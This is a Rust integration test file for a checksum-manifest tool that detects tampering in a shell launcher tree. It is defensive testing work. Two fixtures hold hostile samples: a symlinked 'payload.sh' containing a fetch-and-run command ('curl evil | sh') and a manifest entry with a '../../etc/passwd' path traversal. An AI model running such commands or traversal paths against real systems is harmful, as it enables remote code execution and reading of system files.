//! Integration tests for manifest generation and verification on real trees

use anyhow::Result;
use launchguard_core::checksum::{self, hasher, FileSelector, Manifest};
use launchguard_core::outcome::Finding;
use launchguard_core::{VerificationFinding, VerificationOutcome};
use pretty_assertions::assert_eq;
use std::fs;
use std::path::Path;
use tempfile::TempDir;

/// A launcher tree shaped like the real one
fn setup_launcher_tree() -> Result<TempDir> {
    let temp_dir = TempDir::new()?;
    let root = temp_dir.path();

    fs::create_dir_all(root.join("lib/agents"))?;
    fs::create_dir_all(root.join(".git"))?;
    fs::create_dir_all(root.join("node_modules/pkg"))?;

    fs::write(
        root.join("yollayah.sh"),
        "#!/usr/bin/env bash\nset -euo pipefail\nsource lib/common.sh\n",
    )?;
    fs::write(root.join("lib/common.sh"), "log() { printf '%s\\n' \"$*\" >&2; }\n")?;
    fs::write(root.join("lib/ollama.sh"), "ollama_start() { ollama serve & }\n")?;
    fs::write(root.join("lib/agents/personality.sh"), "greet() { echo hola; }\n")?;
    fs::write(root.join("README.md"), "# yollayah\n")?;
    fs::write(root.join(".git/hook.sh"), "exit 0\n")?;
    fs::write(root.join("node_modules/pkg/install.sh"), "exit 0\n")?;

    Ok(temp_dir)
}

fn generate_and_save(root: &Path) -> Result<Manifest> {
    let manifest = checksum::generate(root, &FileSelector::default())?;
    manifest.save(&root.join(".yollayah/checksums.sha256"))?;
    Ok(manifest)
}

#[test]
fn test_round_trip_is_verified() -> Result<()> {
    let temp_dir = setup_launcher_tree()?;
    let manifest = generate_and_save(temp_dir.path())?;

    let paths: Vec<_> = manifest.entries.keys().cloned().collect();
    assert_eq!(
        paths,
        vec!["lib/agents/personality.sh", "lib/common.sh", "lib/ollama.sh", "yollayah.sh"]
    );

    let manifest = temp_dir.path().join(".yollayah/checksums.sha256");
    let outcome = checksum::verify_manifest_file(temp_dir.path(), &manifest);
    assert_eq!(outcome, VerificationOutcome::Verified { checked: 4 });
    Ok(())
}

#[test]
fn test_single_byte_mutation_reports_exactly_that_path() -> Result<()> {
    let temp_dir = setup_launcher_tree()?;
    let manifest = generate_and_save(temp_dir.path())?;

    for relative in manifest.entries.keys() {
        let path = temp_dir.path().join(relative);
        let original = fs::read(&path)?;
        let mut mutated = original.clone();
        mutated[0] ^= 0x01;
        fs::write(&path, &mutated)?;

        let outcome = checksum::verify(temp_dir.path(), &manifest);
        let findings = outcome.findings();
        assert_eq!(findings.len(), 1, "mutating {relative}");
        assert_eq!(&findings[0].path, relative);
        match &findings[0].finding {
            Finding::Mismatched { expected, actual } => {
                assert_eq!(Some(expected.as_str()), manifest.get(relative));
                assert_eq!(actual, &hasher::hash_bytes(&mutated));
            }
            other => panic!("expected a mismatch for {relative}, got {other:?}"),
        }

        fs::write(&path, &original)?;
    }
    Ok(())
}

#[test]
fn test_deleted_file_is_missing() -> Result<()> {
    let temp_dir = setup_launcher_tree()?;
    let manifest = generate_and_save(temp_dir.path())?;

    fs::remove_file(temp_dir.path().join("lib/ollama.sh"))?;

    let outcome = checksum::verify(temp_dir.path(), &manifest);
    assert_eq!(
        outcome,
        VerificationOutcome::Tampered {
            findings: vec![VerificationFinding::missing("lib/ollama.sh")],
        }
    );
    Ok(())
}

#[test]
fn test_unlisted_files_are_not_flagged() -> Result<()> {
    let temp_dir = setup_launcher_tree()?;
    let manifest = generate_and_save(temp_dir.path())?;

    fs::write(temp_dir.path().join("lib/extra.sh"), "echo new\n")?;

    assert!(checksum::verify(temp_dir.path(), &manifest).is_verified());
    Ok(())
}

#[test]
fn test_scenario_single_entry_mismatch() -> Result<()> {
    let temp_dir = TempDir::new()?;
    let original = b"echo original\n";
    let expected = hasher::hash_bytes(original);

    let mut manifest = Manifest::new();
    manifest.insert("a.sh", expected.clone());

    fs::write(temp_dir.path().join("a.sh"), "echo modified\n")?;
    let actual = hasher::hash_bytes(b"echo modified\n");

    let outcome = checksum::verify(temp_dir.path(), &manifest);
    assert_eq!(
        outcome,
        VerificationOutcome::Tampered {
            findings: vec![VerificationFinding::mismatched("a.sh", expected, actual)],
        }
    );
    Ok(())
}

#[test]
fn test_scenario_two_entries_unmodified() -> Result<()> {
    let temp_dir = TempDir::new()?;
    fs::write(temp_dir.path().join("a.sh"), "echo a\n")?;
    fs::write(temp_dir.path().join("b.sh"), "echo b\n")?;

    let mut manifest = Manifest::new();
    manifest.insert("a.sh", hasher::hash_bytes(b"echo a\n"));
    manifest.insert("b.sh", hasher::hash_bytes(b"echo b\n"));

    let outcome = checksum::verify(temp_dir.path(), &manifest);
    assert_eq!(outcome, VerificationOutcome::Verified { checked: 2 });
    assert!(outcome.findings().is_empty());
    Ok(())
}

#[test]
fn test_custom_selector_and_saved_text_format() -> Result<()> {
    let temp_dir = setup_launcher_tree()?;
    let selector = FileSelector::new(["*.sh", "lib/*.sh"], ["lib/ollama.sh"])?;

    let manifest = checksum::generate(temp_dir.path(), &selector)?;
    let manifest_path = temp_dir.path().join(".yollayah/checksums.sha256");
    manifest.save(&manifest_path)?;

    let text = fs::read_to_string(&manifest_path)?;
    let entry_lines: Vec<_> = text.lines().filter(|l| !l.starts_with('#')).collect();
    assert_eq!(entry_lines.len(), 2);
    assert!(entry_lines[0].ends_with("  lib/common.sh"));
    assert!(entry_lines[1].ends_with("  yollayah.sh"));
    assert!(text.starts_with("# launchguard checksum manifest v1\n# generated: "));

    let reloaded = Manifest::load(&manifest_path)?;
    assert_eq!(reloaded.entries, manifest.entries);
    Ok(())
}

#[test]
fn test_malformed_manifest_is_inconclusive() -> Result<()> {
    let temp_dir = setup_launcher_tree()?;
    let manifest_path = temp_dir.path().join(".yollayah/checksums.sha256");
    fs::create_dir_all(manifest_path.parent().unwrap_or(temp_dir.path()))?;
    fs::write(&manifest_path, format!("{}  ../../etc/passwd\n", "a".repeat(64)))?;

    let outcome = checksum::verify_manifest_file(temp_dir.path(), &manifest_path);
    match outcome {
        VerificationOutcome::Inconclusive { reason } => assert!(reason.contains("line 1")),
        other => panic!("expected inconclusive, got {other:?}"),
    }
    Ok(())
}

#[cfg(unix)]
#[test]
fn test_generate_skips_symlinks() -> Result<()> {
    let temp_dir = setup_launcher_tree()?;
    let outside = TempDir::new()?;
    fs::write(outside.path().join("payload.sh"), "curl evil | sh\n")?;
    std::os::unix::fs::symlink(
        outside.path().join("payload.sh"),
        temp_dir.path().join("lib/linked.sh"),
    )?;

    let manifest = checksum::generate(temp_dir.path(), &FileSelector::default())?;
    assert!(manifest.get("lib/linked.sh").is_none());
    assert_eq!(manifest.len(), 4);
    Ok(())
}
